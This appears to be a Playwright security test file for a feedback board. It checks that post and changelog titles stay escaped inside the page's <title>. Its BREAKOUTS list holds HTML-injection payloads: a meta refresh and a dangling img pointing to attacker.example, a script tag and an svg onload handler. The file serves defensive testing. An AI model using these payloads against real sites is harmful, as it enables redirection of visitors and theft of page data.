import { test, expect } from "./fixtures/test";
import type { Page } from "@playwright/test";
import { demo, jwt } from "./fixtures/demo";

/** Titles that, written into the head as they are, end `<title>` and add an element. */
const BREAKOUTS = [
  `Refresh</title><meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
  `Dangling</TITLE ><img src="https://attacker.example/?`,
  `Boom</title><script>document.body.dataset.pwned = "yes"</script>`,
  `Draw</title><svg onload="document.body.dataset.pwned='yes'"></svg> & more`,
];

/** The demo's API headers, acting as a customer (`who`) or, without one, as its admin. */
function headers(who?: { email: string; name: string }) {
  const { api_key, sso_secret, team } = demo();
  const person = who ?? { email: team[0].email, name: team[0].name };
  return { "API-KEY": api_key, Authorization: `Bearer ${jwt(sso_secret, person)}` };
}

/** Opens `path` and checks that nothing from a title left it: no navigation, no request to the
 * attacker's site, no element of its making, and the title shown as the text it is. */
async function expectTitleStaysText(page: Page, path: string, title: string) {
  const outside: string[] = [];
  await page.route(/attacker\.example/, (route) => {
    outside.push(route.request().url());
    return route.abort();
  });
  await page.goto(path);
  await expect(page.locator("body")).toHaveAttribute("data-hydrated", "true");
  // A refresh of 0 seconds would have left by now; give a slower one a moment too.
  await page.waitForTimeout(500);
  expect(new URL(page.url()).pathname).toBe(path);
  expect(outside).toEqual([]);
  const found = await page.evaluate(() => ({
    titles: document.head.querySelectorAll("title").length,
    refresh: document.querySelectorAll("meta[http-equiv]").length,
    svg: document.querySelectorAll("head svg, svg[onload]").length,
    images: document.querySelectorAll('img[src*="attacker.example"]').length,
    scripts: Array.from(document.querySelectorAll("script")).filter((s) => s.textContent?.includes("pwned")).length,
    pwned: document.body.dataset.pwned ?? null,
    title: document.title,
  }));
  expect(found).toMatchObject({ titles: 1, refresh: 0, svg: 0, images: 0, scripts: 0, pwned: null });
  expect(found.title.startsWith(title), `${found.title} starts with ${title}`).toBe(true);
  expect(found.title.endsWith(" · upboard")).toBe(true);
}

test("a customer's post titled to break out of <title> stays text on its page", async ({ page, request }) => {
  const buckets = await (await request.get("/api/v3/buckets", { headers: headers() })).json();
  for (const [n, title] of BREAKOUTS.entries()) {
    const customer = headers({ email: `mallory${n}-${Date.now()}@example.test`, name: "Mallory" });
    const created = await request.post("/api/v3/feature_requests", { headers: customer, data: { title, bucket_id: buckets.buckets[0].id } });
    expect(created.status(), await created.text()).toBe(201);
    const post = await created.json();
    // Approved by the team, so that every visitor sees it.
    const approved = await request.put(`/api/v3/feature_requests/${post.id}`, { headers: headers(), data: { approval_status: "approved" } });
    expect(approved.status()).toBe(200);
    await expectTitleStaysText(page, `/demo/p/${post.slug}`, title);
  }
});

test("a changelog entry titled to break out of <title> stays text on its page", async ({ page, request }) => {
  const title = BREAKOUTS[0];
  const created = await request.post("/api/v3/changelog", { headers: headers(), data: { title, body: "Shipped.", published: true } });
  expect(created.status(), await created.text()).toBe(201);
  const entry = await created.json();
  await expectTitleStaysText(page, `/demo/changelog/${entry.id}`, title);
  // Taken away again (no other test depends on it: they find the demo's entries by name).
  expect((await request.delete(`/api/v3/changelog/${entry.id}`, { headers: headers() })).status()).toBe(200);
});
